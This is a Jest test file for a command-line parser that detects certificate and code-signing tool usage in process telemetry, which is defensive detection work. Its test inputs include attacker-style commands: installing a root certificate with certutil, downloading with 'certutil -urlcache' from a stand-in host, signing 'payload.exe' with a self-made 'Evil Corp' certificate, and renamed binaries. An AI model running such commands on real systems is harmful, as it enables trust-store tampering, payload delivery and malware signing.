import { analyseCommandLine, parseCommandLine } from '../../../shared/cmdline/parse';

describe('parseCommandLine: quoting and Windows paths', () => {
  it('reads a quoted signtool path with spaces and quoted arguments', () => {
    const facts = parseCommandLine(
      '"C:\\Program Files (x86)\\Windows Kits\\10\\bin\\x64\\signtool.exe" sign /f "C:\\Users\\a b\\c.pfx" /p pw /t http://ts "C:\\out\\app.exe"',
    );
    expect(facts).toEqual({
      tool: 'signtool',
      action: 'sign',
      certificate: { subject: null, thumbprint: null, files: ['C:\\Users\\a b\\c.pfx'], store: null, codeSigningEku: false },
      signedFile: 'C:\\out\\app.exe',
      signedFiles: ['C:\\out\\app.exe'],
      decodedCommand: null,
    });
  });

  it('reads cmd caret escapes', () => {
    const facts = parseCommandLine('c^e^r^t^u^t^i^l -add^store R^oot "C:\\a^b\\x.cer"');
    expect(facts).toMatchObject({ tool: 'certutil', action: 'import-store', certificate: { store: 'Root', files: ['C:\\a^b\\x.cer'] } });
  });

  it('ignores redirections', () => {
    const facts = parseCommandLine('signtool sign /a app.exe >nul 2>&1 > log.txt');
    expect(facts.signedFiles).toEqual(['app.exe']);
  });

  it('keeps typographic dashes and quotes from copied documentation working', () => {
    const facts = parseCommandLine('makecert –r –pe –n “CN=Evil Corp” –eku 1.3.6.1.5.5.7.3.3 –ss My evil.cer');
    expect(facts).toMatchObject({ tool: 'makecert', certificate: { subject: 'CN=Evil Corp', codeSigningEku: true, store: 'My', files: ['evil.cer'] } });
  });
});

describe('parseCommandLine: tool from the telemetry hint', () => {
  it('uses the PE original file name for a renamed binary', () => {
    const facts = parseCommandLine('x.exe -r -pe -n "CN=Renamed" -sv k.pvk k.cer', { fileName: 'x.exe', originalFileName: 'makecert.exe' });
    expect(facts).toMatchObject({ tool: 'makecert', action: 'create-cert', certificate: { subject: 'CN=Renamed', files: ['k.pvk', 'k.cer'] } });
  });

  it('trusts the original file name over a misleading name on the line', () => {
    const facts = parseCommandLine('C:\\temp\\notepad.exe -pvk a.pvk -spc a.cer -pfx a.pfx', { fileName: 'notepad.exe', originalFileName: 'pvk2pfx.exe' });
    expect(facts).toMatchObject({ tool: 'pvk2pfx', action: 'convert-key' });
  });

  it('uses the image name when the line omits the executable', () => {
    const facts = parseCommandLine('sign /fd sha256 /n "Evil Corp" /s My payload.exe', { fileName: 'signtool.exe' });
    expect(facts).toMatchObject({ tool: 'signtool', action: 'sign', certificate: { subject: 'Evil Corp', store: 'My' }, signedFile: 'payload.exe' });
  });

  it('accepts the hint with mixed case and nulls', () => {
    expect(parseCommandLine('-addstore Root a.cer', { fileName: 'CertUtil.EXE', originalFileName: null }).tool).toBe('certutil');
    expect(parseCommandLine('certutil -addstore Root a.cer', { fileName: null, originalFileName: null }).tool).toBe('certutil');
    expect(parseCommandLine('certutil -addstore Root a.cer', {}).tool).toBe('certutil');
  });

  it('maps pwsh.dll, the original file name of pwsh.exe, to powershell', () => {
    const facts = parseCommandLine('renamed.exe -c New-SelfSignedCertificate -Subject CN=x', { fileName: 'renamed.exe', originalFileName: 'pwsh.dll' });
    expect(facts).toMatchObject({ tool: 'powershell', action: 'create-cert', certificate: { subject: 'CN=x' } });
  });
});

describe('parseCommandLine: launchers', () => {
  it('follows cmd /c with cmd quote stripping', () => {
    expect(parseCommandLine('cmd.exe /Q /c "certutil -addstore Root "C:\\a b\\x.cer""')).toMatchObject({
      tool: 'certutil',
      certificate: { store: 'Root', files: ['C:\\a b\\x.cer'] },
    });
    expect(parseCommandLine('cmd /c "C:\\Program Files\\Kits\\signtool.exe"').tool).toBe('signtool');
  });

  it('follows powershell -Command "& {...}" and pwsh -c', () => {
    const facts = parseCommandLine(
      'powershell.exe -NoProfile -Command "& {New-SelfSignedCertificate -Type CodeSigningCert -Subject \'CN=Block\' -CertStoreLocation Cert:\\LocalMachine\\My}"',
    );
    expect(facts).toMatchObject({ tool: 'powershell', action: 'create-cert', certificate: { subject: 'CN=Block', codeSigningEku: true, store: 'Cert:\\LocalMachine\\My' } });
    expect(parseCommandLine("pwsh -c New-SelfSignedCertificate -DnsName 'a.example', 'b.example'").certificate.subject).toBe('a.example');
  });

  it('keeps ; and & inside an unquoted -Command', () => {
    const facts = parseCommandLine('powershell -c $c = New-SelfSignedCertificate -Subject CN=x -CertStoreLocation Cert:\\CurrentUser\\My; Export-PfxCertificate -Cert $c -FilePath C:\\t\\x.pfx -Password $p');
    expect(facts).toMatchObject({ action: 'export-pfx', certificate: { subject: 'CN=x', files: ['C:\\t\\x.pfx'], store: 'Cert:\\CurrentUser\\My' } });
  });

  it('reads what follows a quoted -Command in a batch file as cmd syntax', () => {
    const facts = parseCommandLine('powershell -Command "New-SelfSignedCertificate -Subject CN=bat -Type CodeSigningCert" >nul 2>&1 && certutil -addstore Root x.cer');
    expect(facts).toMatchObject({ tool: 'certutil', action: 'import-store', certificate: { subject: 'CN=bat', codeSigningEku: true, store: 'Root', files: ['x.cer'] } });
    expect(parseCommandLine('cmd /c powershell -c "New-SelfSignedCertificate -Subject CN=c" ^> out.txt').certificate.subject).toBe('CN=c');
  });

  it('reads the C runtime escapes inside a quoted -Command', () => {
    const facts = parseCommandLine('powershell -Command "New-SelfSignedCertificate -Subject \\"CN=Quoted, O=Evil\\" -Type CodeSigningCert"');
    expect(facts.certificate.subject).toBe('CN=Quoted, O=Evil');
  });

  it('runs native tools from PowerShell with the call operator', () => {
    const facts = parseCommandLine('& "C:\\Program Files (x86)\\Windows Kits\\10\\bin\\x64\\signtool.exe" sign /sha1 0123456789ABCDEF0123456789ABCDEF01234567 /fd sha256 a.exe');
    expect(facts).toMatchObject({ tool: 'signtool', action: 'sign', certificate: { thumbprint: '0123456789ABCDEF0123456789ABCDEF01234567' }, signedFile: 'a.exe' });
  });

  it('follows sh -c', () => {
    expect(parseCommandLine("bash -c 'openssl pkcs12 -export -in a.crt -inkey a.key -out a.p12'")).toMatchObject({
      tool: 'openssl',
      action: 'export-pfx',
      certificate: { files: ['a.crt', 'a.key', 'a.p12'] },
    });
  });

  it('follows Invoke-Expression on a literal string', () => {
    expect(parseCommandLine("iex 'New-SelfSignedCertificate -Subject CN=iex -Type CodeSigningCert'")).toMatchObject({
      action: 'create-cert',
      certificate: { subject: 'CN=iex', codeSigningEku: true },
    });
  });
});

describe('parseCommandLine: lines with several commands', () => {
  it('labels the line with its furthest stage and keeps the other facts', () => {
    const facts = parseCommandLine('makecert -r -pe -n "CN=Chain" -sv c.pvk c.cer && pvk2pfx -pvk c.pvk -spc c.cer -pfx c.pfx && signtool sign /f c.pfx payload.exe');
    expect(facts).toMatchObject({
      tool: 'signtool',
      action: 'sign',
      certificate: { subject: 'CN=Chain', files: ['c.pvk', 'c.cer', 'c.pfx'] },
      signedFile: 'payload.exe',
    });
  });

  it('prefers the named certificate tool over its shell when they tie', () => {
    expect(parseCommandLine('cmd /c echo x & certutil -urlcache -f http://x/a a').tool).toBe('certutil');
    expect(parseCommandLine('powershell -c certutil -urlcache -f http://x/a a').tool).toBe('certutil');
  });

  it('labels an unrelated program as other', () => {
    expect(parseCommandLine('notepad.exe C:\\keys\\stolen.pfx')).toMatchObject({ tool: 'other', action: 'other', certificate: { files: ['C:\\keys\\stolen.pfx'] } });
    expect(parseCommandLine('')).toMatchObject({ tool: 'other', action: 'other', signedFile: null, signedFiles: [], decodedCommand: null });
  });
});

describe('parseCommandLine: robustness', () => {
  it('treats a non-string as an empty line', () => {
    expect(parseCommandLine(undefined as unknown as string).tool).toBe('other');
    expect(analyseCommandLine(null as unknown as string).tool).toBe('other');
  });

  it.each([
    ['deep PowerShell nesting', `$x = ${'@('.repeat(500_000)}`],
    ['unterminated quotes', `signtool sign ${'"a '.repeat(250_000)}`],
    ['many carets', `certutil ${'^'.repeat(1_000_000)}`],
    ['many commas', `New-SelfSignedCertificate -DnsName ${'a,'.repeat(500_000)}`],
    ['many files', `other.exe ${'a.cer '.repeat(170_000)}`],
    ['nested launchers', 'cmd /c '.repeat(140_000)],
    ['nested powershell', 'powershell -c '.repeat(70_000)],
    ['long base64', `powershell -enc ${'A'.repeat(1_000_000)}`],
    ['hex run', `certutil -delstore My ${'ab'.repeat(500_000)}`],
    ['cert drive paths', `Get-ChildItem ${'Cert:\\a\\'.repeat(100_000)}`],
    ['assignments', `${'$a=$b='.repeat(150_000)}`],
    ['splatting', `$p = @{ ${'Subject = 1; '.repeat(80_000)} }; New-SelfSignedCertificate @p`],
  ])('parses a 1 MB line of %s in reasonable time', (_name, line) => {
    const started = Date.now();
    const facts = analyseCommandLine(line);
    expect(facts.tool).toBeDefined();
    // Generous: the point is linear time (a quadratic parser takes minutes here), not a benchmark.
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});
